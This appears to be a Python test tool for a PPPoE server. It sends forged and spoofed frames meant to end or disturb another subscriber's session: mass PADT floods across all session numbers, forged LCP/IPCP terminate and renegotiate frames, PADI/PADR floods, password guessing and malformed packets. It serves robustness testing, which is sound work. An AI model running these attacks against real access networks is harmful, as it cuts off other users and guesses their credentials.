#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""What a stranger on the wire can send to end or disturb the session of another, knowing its
number and both addresses. He has addresses of his own, and no secret.

hostile.py DEV ATTACK SESSION SERVER CLIENT IP [ROUNDS]
"""
import itertools
import random
import sys

from pppoe_client import (ACK, AC_NAME, BROADCAST, CHAP, COOKIE, DISCOVERY, ECHO_REPLY,
                          ECHO_REQUEST, HOST_UNIQ, IP, IPCP, LCP, NAK, PADI, PADO, PADR, PADS,
                          PADT, PAP, PROTOCOL_REJECT, REJECT, REQUEST, SERVICE, SESSION,
                          TERMINATE, TERMINATED, Client, Wire, control, ethernet, icmp_echo, mac,
                          option, pppoe, tag)
from pppoe_misuse import Garbage

STRANGERS = [mac(0x400000 + number) for number in range(16)]


class Attack:
    """Each method is one, and says what it sends."""

    def __init__(self, wire, number, server, client, address):
        self.wire, self.number, self.server = wire, number, server
        self.client, self.address = client, address
        self.sent = 0

    def frame(self, target, source, kind, payload):
        """Sends one frame; now and then takes in the answers."""
        self.wire.send(ethernet(target, source, kind, payload))
        self.sent += 1
        if self.sent % 256 == 0:
            self.wire.receive()

    def session_frames(self):
        """All that ends a link, or begins its negotiation anew."""
        magic = bytes(4)
        yield LCP, control(TERMINATE, 1)
        yield LCP, control(TERMINATED, 1)
        yield LCP, control(REQUEST, 1, option(1, b"\x05\xd4"))
        for identifier, code in itertools.product((1, 2, 3), (ACK, NAK, REJECT)):
            yield LCP, control(code, identifier, option(5, magic))
        yield LCP, control(PROTOCOL_REJECT, 1, IP.to_bytes(2, "big"))
        yield LCP, control(PROTOCOL_REJECT, 1, IPCP.to_bytes(2, "big"))
        yield LCP, control(ECHO_REQUEST, 1, magic)
        yield LCP, control(ECHO_REPLY, 1, magic)
        yield IPCP, control(TERMINATE, 1)
        yield IPCP, control(REQUEST, 1, option(3, bytes(4)))
        yield PAP, control(REQUEST, 1, b"\x05alice\x05wrong")
        yield CHAP, control(4, 1)
        yield IP, icmp_echo(self.address, "192.0.2.2", 1)

    def padt(self, rounds):
        """PADT of every session number, and of his again and again."""
        for number in range(65536):
            self.frame(self.server, STRANGERS[number % 16], DISCOVERY, pppoe(PADT, number, b""))
        for turn in range(rounds):
            self.frame(self.server, STRANGERS[turn % 16], DISCOVERY,
                       pppoe(PADT, self.number, b""))

    def answers(self, rounds):
        """PADS and PADO, which a server does not want, with his number and his address."""
        payload = tag(SERVICE) + tag(AC_NAME, b"me") + tag(0x0203, b"go away")
        for turn, code in itertools.product(range(rounds), (PADS, PADO)):
            for number in (self.number, 0, 65535):
                self.frame(self.server, STRANGERS[turn % 16], DISCOVERY,
                           pppoe(code, number, payload))

    def requests(self, rounds):
        """PADI, and PADR with cookies that are made up."""
        for turn in range(rounds):
            source = mac(0x500000 + turn % 4096)
            uniq = tag(SERVICE) + tag(HOST_UNIQ, turn.to_bytes(4, "big"))
            self.frame(BROADCAST, source, DISCOVERY, pppoe(PADI, 0, uniq))
            self.frame(self.server, source, DISCOVERY, pppoe(
                PADR, 0, uniq + tag(COOKIE, random.randbytes(16))))

    def frames(self, rounds):
        """Frames for his session from other addresses."""
        for turn in range(rounds):
            for protocol, data in self.session_frames():
                self.frame(self.server, STRANGERS[turn % 16], SESSION,
                           pppoe(0, self.number, protocol.to_bytes(2, "big") + data))

    def unfinished(self, rounds):
        """The same from sessions that are begun: data with his address, before any secret."""
        strangers = [Client(self.wire, address, silent=True) for address in STRANGERS]
        for stranger in strangers:
            stranger.start()
        self.wire.run(lambda: all(each.number for each in strangers), 20)
        begun = [each for each in strangers if each.number]
        for _ in range(rounds):
            for stranger, (protocol, data) in itertools.product(begun, self.session_frames()):
                stranger.send(protocol, data)
                self.sent += 1
            self.wire.receive()
        if not begun:
            raise SystemExit("no session could be begun")

    def guess(self, rounds):
        """Wrong secrets for his name, always from one address."""
        for _ in range(rounds):
            guesser = Client(self.wire, STRANGERS[0], "alice", "a guess")
            guesser.start()
            self.wire.run(lambda each=guesser: each.error, 20)
            self.wire.run(guesser.settled, 5)
            self.sent += 1
            guesser.stop()

    def garbage(self, rounds):
        """What is malformed, to the server and for his session."""
        garbage = Garbage(1)
        for turn in range(rounds):
            source = STRANGERS[turn % 16]
            frame = garbage.discovery(source, self.server)
            if frame[6:12] != self.client:
                self.wire.send(frame)
            protocol, data = garbage.wild()
            self.frame(self.server, source, SESSION,
                       pppoe(0, self.number, protocol.to_bytes(2, "big") + data))


def main():
    """Does what the words say."""
    dev, attack, number, server, client, address, *rounds = sys.argv[1:]
    with Wire(dev) as wire:
        each = Attack(wire, int(number), bytes.fromhex(server.replace(":", "")),
                      bytes.fromhex(client.replace(":", "")), address)
        getattr(each, attack)(int(rounds[0]) if rounds else 2000)
        print(f"# {attack}: {each.sent} frames")


if __name__ == "__main__":
    main()
